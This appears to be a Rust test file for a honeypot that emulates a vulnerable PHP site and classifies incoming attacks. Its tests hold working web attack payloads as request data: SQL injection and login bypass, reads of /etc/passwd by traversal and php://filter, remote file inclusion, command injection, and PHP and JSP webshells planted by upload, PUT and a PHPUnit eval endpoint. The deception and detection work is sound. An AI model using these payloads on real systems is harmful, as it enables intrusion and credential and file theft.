use std::sync::Arc;

use kizashi_event::Detail;

use crate::http::rules::tests::converse_from;
use crate::{Identity, WebServer};

const SERVERS: [WebServer; 2] = [WebServer::ApacheDebian12, WebServer::NginxUbuntu20];

/// One request from an address: the answer, what was told, and how long it waited.
fn ask(identity: &Arc<Identity>, source: &str, request: &str) -> (String, Vec<Detail>, i64) {
    let (reply, seen, waited) = converse_from(identity, source, request.as_bytes());
    (String::from_utf8_lossy(&reply).into_owned(), seen, waited)
}

fn get(identity: &Arc<Identity>, target: &str) -> (String, Vec<Detail>, i64) {
    let base = super::base(identity);
    ask(identity, "192.0.2.7", &format!("GET {base}{target} HTTP/1.1\r\nHost: a\r\n\r\n"))
}

fn identity(server: WebServer) -> Arc<Identity> {
    Arc::new(Identity::draw([7; 32]).with_default_page().with_web_server(server))
}

fn class(seen: &[Detail]) -> String {
    let Some(Detail::Request { request, .. }) = seen.first() else { panic!("{seen:?}") };
    request.class.as_ref().unwrap().raw().to_owned()
}

#[test]
fn every_link_and_form_of_the_application_is_a_page_of_its_own() {
    for server in SERVERS {
        let identity = identity(server);
        let base = super::base(&identity);
        let (mut todo, mut done) = (vec![String::new()], std::collections::BTreeSet::new());
        while let Some(target) = todo.pop() {
            if !done.insert(target.clone()) {
                continue;
            }
            let (page, seen, _) = get(&identity, &target);
            let found = page.starts_with("HTTP/1.1 200 ") || page.starts_with("HTTP/1.1 302 ");
            assert!(found, "{target}: {page}");
            assert!(["ordinary", "recon"].contains(&class(&seen).as_str()), "{target}");
            for mark in ["href=\"", "action=\"", "src=\""] {
                for (at, _) in page.match_indices(mark) {
                    let link = page[at + mark.len()..].split('"').next().unwrap();
                    assert!(!link.contains("//"), "another host: {link}");
                    todo.push(link.strip_prefix(base).unwrap_or(link).to_owned());
                }
            }
        }
        assert!(done.len() > 15, "{done:?}");
    }
}

#[test]
fn installations_differ_in_place_name_and_people() {
    let all: Vec<Identity> = (0..60).map(|seed| Identity::draw([seed; 32])).collect();
    let distinct = |of: &dyn Fn(&Identity) -> String| {
        all.iter().map(of).collect::<std::collections::BTreeSet<_>>().len()
    };
    let club = |identity: &Identity| super::Club::draw(identity);
    assert!(distinct(&|identity| super::base(identity).to_owned()) >= 5);
    assert!(distinct(&|identity| club(identity).name) > 35);
    assert_eq!(distinct(&|identity| club(identity).members[0].hash.clone()), 60);
}

#[test]
fn an_injection_is_answered_told_and_waited_for() {
    for server in SERVERS {
        let identity = identity(server);
        let union = "article.php?id=-1+UNION+SELECT+1,username,3,4,password+FROM+users--+-";
        let (page, seen, _) = get(&identity, union);
        assert!(page.contains("<h2>admin</h2>"), "{page}");
        assert_eq!(class(&seen), "sql-injection");
        let told = |name: &str, text: &str| {
            seen.iter().any(|detail| {
                matches!(detail, Detail::Note { name: found, value }
                    if found.raw() == name && value.raw().contains(text))
            })
        };
        assert!(told("sql query", "UNION SELECT 1,username"), "{seen:?}");
        assert!(told("sql result", "admin|"), "{seen:?}");
        let (page, ..) = get(&identity, "article.php?id=1'");
        assert!(page.contains("right syntax to use near ''' at line 1"), "{page}");
        let (yes, ..) = get(&identity, "article.php?id=1+AND+2>1");
        let (no, ..) = get(&identity, "article.php?id=1+AND+2<1");
        assert!(yes.contains("<article>") && !no.contains("<article>"));
        assert_eq!(get(&identity, "article.php?id=1+AND+SLEEP(7)").2, 7);
        assert_eq!(get(&identity, "article.php?id=1+AND+SLEEP(700)").2, 20);
        let file = "article.php?id=-1+UNION+SELECT+1,2,3,4,load_file('/etc/passwd')";
        assert!(get(&identity, file).0.contains("root:x:0:0:"));
    }
}

#[test]
fn a_login_is_passed_by_injection_and_by_nothing_else() {
    let identity = identity(WebServer::ApacheDebian12);
    let base = super::base(&identity);
    let post = |body: &str| {
        let head = "HTTP/1.1\r\nHost: a\r\nContent-Type: application/x-www-form-urlencoded";
        let length = body.len();
        let request =
            format!("POST {base}login.php {head}\r\nContent-Length: {length}\r\n\r\n{body}");
        ask(&identity, "192.0.2.7", &request)
    };
    let (page, seen, _) = post("username=admin&password=admin");
    assert!(page.contains("Wrong user name or password"), "{page}");
    assert_eq!(class(&seen), "credential-form");
    assert!(seen.iter().any(|detail| matches!(detail, Detail::Login { accepted: false, .. })));
    let (page, seen, _) = post("username=admin'+OR+1%3D1--+-&password=x");
    assert!(page.starts_with("HTTP/1.1 302 "), "{page}");
    assert!(page.contains("Location: admin/index.php"), "{page}");
    assert!(seen.iter().any(|detail| matches!(detail, Detail::Login { accepted: true, .. })));
    let cookie = page.split("PHPSESSID=").nth(1).unwrap().split(';').next().unwrap().to_owned();
    let enter = |source: &str| {
        let head = format!("HTTP/1.1\r\nHost: a\r\nCookie: PHPSESSID={cookie}");
        ask(&identity, source, &format!("GET {base}admin/ {head}\r\n\r\n")).0
    };
    assert!(enter("192.0.2.7").contains("<h2>Administration</h2>"));
    assert!(enter("192.0.2.8").contains("Location: ../login.php"), "a session is one visitor's");
}

#[test]
fn what_a_page_includes_comes_from_the_machine_or_fails_as_php_says() {
    let identity = identity(WebServer::ApacheDebian12);
    let page = |target: &str| get(&identity, target).0;
    assert!(page("index.php?page=../../../../etc/passwd").contains("www-data:x:33"));
    let filter = "index.php?page=php://filter/convert.base64-encode/resource=/etc/passwd";
    assert!(page(filter).contains("cm9vdDp4OjA6M"));
    let missing = page("index.php?page=nothing");
    assert!(missing.contains("No such file or directory in <b>/var/www/html"), "{missing}");
    let far = get(&identity, "index.php?page=http://192.0.2.9/x.txt?");
    assert!(far.0.contains("http:// wrapper is disabled in the server configuration"), "{}", far.0);
    assert_eq!(class(&far.1), "remote-file-inclusion");
    assert!(page("index.php?page=data://text/plain;base64,PD89Nio3Ow==").contains("42"));
    let (output, seen, _) = get(&identity, "tools.php?host=127.0.0.1;id");
    assert!(output.contains("uid=33(www-data)"), "{output}");
    assert_eq!(class(&seen), "command-injection");
}

/// A form that uploads one file.
fn upload(base: &str, name: &str, content: &str) -> String {
    let part = format!("Content-Disposition: form-data; name=\"file\"; filename=\"{name}\"");
    let body = format!("--x\r\n{part}\r\n\r\n{content}\r\n--x--\r\n");
    let head = "HTTP/1.1\r\nHost: a\r\nContent-Type: multipart/form-data; boundary=x";
    format!("POST {base}upload.php {head}\r\nContent-Length: {}\r\n\r\n{body}", body.len())
}

#[test]
fn nobody_is_served_what_another_visitor_dropped() {
    for server in SERVERS {
        let identity = identity(server);
        let base = super::base(&identity);
        for (name, content, says) in [
            ("q1.php", "<?php echo 'mi'.'ne7';", "mine7"),
            ("q2.txt", "only text", "only text"),
            ("q3.jsp", "<% out.println(\"java7\"); %>", "java7"),
            ("q4.php", "<?php // c99shell c99sh", "c99shell"),
        ] {
            ask(&identity, "192.0.2.7", &upload(base, name, content));
            let fetch = format!("GET {base}uploads/{name} HTTP/1.1\r\nHost: a\r\n\r\n");
            let (own, seen, _) = ask(&identity, "192.0.2.7", &fetch);
            assert!(own.starts_with("HTTP/1.1 200 ") && own.contains(says), "{name}: {own}");
            assert_eq!(class(&seen), "webshell");
            let (other, ..) = ask(&identity, "192.0.2.8", &fetch);
            assert!(other.starts_with("HTTP/1.1 404 ") && !other.contains(says), "{name}: {other}");
            let command = "host=;cat+uploads/q*;find+/var/www+/tmp+-name+'q*'";
            let look = format!("GET {base}tools.php?{command} HTTP/1.1\r\nHost: a\r\n\r\n");
            let (mine, ..) = ask(&identity, "192.0.2.7", &look);
            assert!(mine.contains(&format!("uploads/{name}\n")), "{mine}");
            let (other, ..) = ask(&identity, "192.0.2.8", &look);
            assert!(!other.contains(says) && !other.contains(name), "{other}");
        }
    }
}

#[test]
fn what_is_put_by_exploits_of_products_works_too() {
    let identity = identity(WebServer::ApacheDebian12);
    let send = |line: &str, body: &str| {
        let length = body.len();
        let request =
            format!("{line} HTTP/1.1\r\nHost: a\r\nContent-Length: {length}\r\n\r\n{body}");
        ask(&identity, "192.0.2.7", &request).0
    };
    let fetch = |target: &str| send(&format!("GET {target}"), "");
    let shell = "<%if(\"023\".equals(request.getParameter(\"pwd\"))){java.io.InputStream in=Runtime.getRuntime().exec(request.getParameter(\"i\")).getInputStream();out.print(\"<pre>\");}%>";
    assert!(send("PUT /poc.jsp/", shell).starts_with("HTTP/1.1 201 "));
    assert!(fetch("/poc.jsp?pwd=023&i=id").contains("uid=33(www-data)"));
    assert!(!fetch("/poc.jsp?i=id").contains("uid="), "without the password it runs nothing");
    let put = send("PUT /x.php", "<?php passthru($_GET['c']);");
    assert!(put.contains("/x.php has been created"), "{put}");
    assert!(fetch("/x.php?c=uname").ends_with("Linux\n"));
    assert!(fetch("/x.php").contains("X-Powered-By: PHP/8.2.29"));
    let eval = "<?php file_put_contents('/var/www/html/y.php', '<?=1+1;');";
    send("POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", eval);
    assert!(fetch("/y.php").ends_with("\r\n\r\n2"));
}
